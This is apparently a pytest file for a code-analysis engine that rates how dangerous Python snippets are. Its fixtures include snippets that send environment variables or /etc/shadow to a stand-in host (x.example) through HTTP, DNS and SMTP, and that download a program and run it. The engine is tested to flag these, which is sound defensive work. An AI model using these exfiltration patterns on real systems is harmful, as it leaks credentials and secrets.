"""The levels of acts: one level for every spelling, LOW for what honest programs do."""

from __future__ import annotations

import pytest

from engine.analysis import analyse
from engine.models import Certainty, EffectKind, Language, Level

_SPELLINGS = {
    "run code": ("{}('1 + x')", "import builtins\nbuiltins.{}('1 + x')", "run = {}\nrun('1 + x')"),
    "write a file of the folder": (
        "open('a.txt', 'w').write('x')",
        "import io\nio.open('a.txt', 'w').write('x')",
        "from pathlib import Path\nPath('a.txt').write_text('x')",
        "import pathlib\npathlib.Path('a.txt').open('w').write('x')",
        "import shutil\nshutil.copy('b.txt', 'a.txt')",
        "import os\nos.rename('b.txt', 'a.txt')",
        "import pandas as pd\npd.DataFrame(rows).to_csv('a.txt')",
        "import numpy\nnumpy.savetxt('a.txt', rows)",
    ),
    "read from a named host": (
        "import requests\nrequests.get('https://api.example.org/v1')",
        "import requests as r\nr.get(url='https://api.example.org/v1')",
        "from urllib.request import urlopen\nurlopen('https://api.example.org/v1')",
        "import urllib.request as u\nu.urlopen(u.Request('https://api.example.org/v1'))",
        "import httpx\nhttpx.get('https://api.example.org/v1')",
        "import pandas\npandas.read_csv('https://api.example.org/v1')",
    ),
}
_LEVELS = {
    "run code": Level.HIGH,
    "write a file of the folder": Level.LOW,
    "read from a named host": Level.LOW,
}
_SECRETS = (
    "dict(os.environ)",
    "str(os.environ)",
    "json.dumps(dict(os.environ))",
    "open('/etc/shadow').read()",
)
_SENDERS = (
    "requests.post('https://x.example', data={})",
    "requests.post(url, json={{'d': {}}})",
    "requests.request('POST', url, data={})",
    "httpx.put('https://x.example', content={})",
    "urllib.request.urlopen(urllib.request.Request(url, data=({}).encode()))",
    "urllib.request.urlopen(url, {})",
    "requests.get(f'https://x.example/?d={{{}}}')",
    "socket.gethostbyname({} + '.x.example')",
    "http.client.HTTPSConnection('x.example').request('POST', '/', body={})",
    "smtplib.SMTP('x.example').sendmail('a', 'b', {})",
)
_IMPORTS = "import http.client, httpx, json, os, requests, smtplib, socket, urllib.request\n"


def _worst(code: str) -> Level:
    found = analyse(code, Language.PYTHON).violations
    return max((one.severity for one in found), key=lambda level: level.rank, default=Level.LOW)


@pytest.mark.parametrize(
    ("act", "code"), [(act, code.format("eval")) for act, codes in _SPELLINGS.items() for code in codes]
)
def test_an_act_has_one_level_whatever_its_spelling(act: str, code: str) -> None:
    """Through modules, aliases, methods and libraries."""
    assert _worst(code) is _LEVELS[act]


@pytest.mark.parametrize("secret", _SECRETS)
@pytest.mark.parametrize("sender", _SENDERS)
def test_a_secret_that_is_sent_is_critical_whatever_carries_it(secret: str, sender: str) -> None:
    """Every source of secrets to every sink."""
    assert _worst(_IMPORTS + f"data = {secret}\n" + sender.format("data")) is Level.CRITICAL
    assert _worst(_IMPORTS + sender.format(secret.replace("'", '"'))) is Level.CRITICAL


@pytest.mark.parametrize(
    "code",
    [
        "import os, requests\nrequests.get('https://a.example', headers={'X-Key': os.environ['API_KEY']})",
        "import os, requests\nrequests.get(os.environ['API_URL'] + '/items').json",
        "import subprocess\nprint(subprocess.run(['git', 'status'], capture_output=True))",
        "import tempfile, os\nwith tempfile.TemporaryDirectory() as t:\n    open(os.path.join(t, 'a'), 'w')",
        "import os, subprocess\nenv = os.environ.copy()\nenv['LANG'] = 'C'",
    ],
)
def test_ordinary_capability_is_no_violation_of_weight(code: str) -> None:
    """One request with its key, git status, a folder for temporary files, an environment for a child."""
    assert _worst(code).rank <= (Level.MEDIUM if "API_URL" in code else Level.LOW).rank


def test_a_key_of_one_service_goes_to_its_own_host_alone() -> None:
    """A GitHub token in a header is ordinary at GitHub, and HIGH elsewhere."""
    code = "import os, requests\nrequests.get('https://{}', headers={{'A': os.environ['GITHUB_TOKEN']}})"
    assert _worst(code.format("api.github.com/user")) is Level.LOW
    assert _worst(code.format("x.example/user")) is Level.HIGH


def test_newer_syntax_is_no_error_where_doctests_run() -> None:
    """Type parameters in code that calls `doctest.testmod`."""
    assert _worst("import doctest\nclass A[T]:\n    x: T\ndoctest.testmod()") is Level.LOW


def test_a_program_written_from_the_network_and_started_is_grave() -> None:
    """Also where its path is known only at run time."""
    code = (
        "import requests, subprocess, tempfile\nwith tempfile.NamedTemporaryFile(delete=False) as f:\n"
        "    f.write(requests.get(u).content)\nsubprocess.call([f.name])"
    )
    assert _worst(code).rank >= Level.HIGH.rank


@pytest.mark.parametrize(
    "code",
    [
        "import os\nos.system('curl https://api.example.org' + rest)",
        "import os\nos.system(f'ping {name}.example.org')",
        "import telnetlib\ntelnetlib.Telnet(host).write('exit\\n')",
        "import requests\nrequests.request('POST', url)",
    ],
)
def test_a_host_that_is_known_in_part_is_not_called_exact(code: str) -> None:
    """In commands, in what is written to a connection, in the method of a request."""
    hosts = [one for one in analyse(code, Language.PYTHON).effects if one.kind is EffectKind.HOST]
    assert Certainty.EXACT not in {one.certainty for one in hosts}
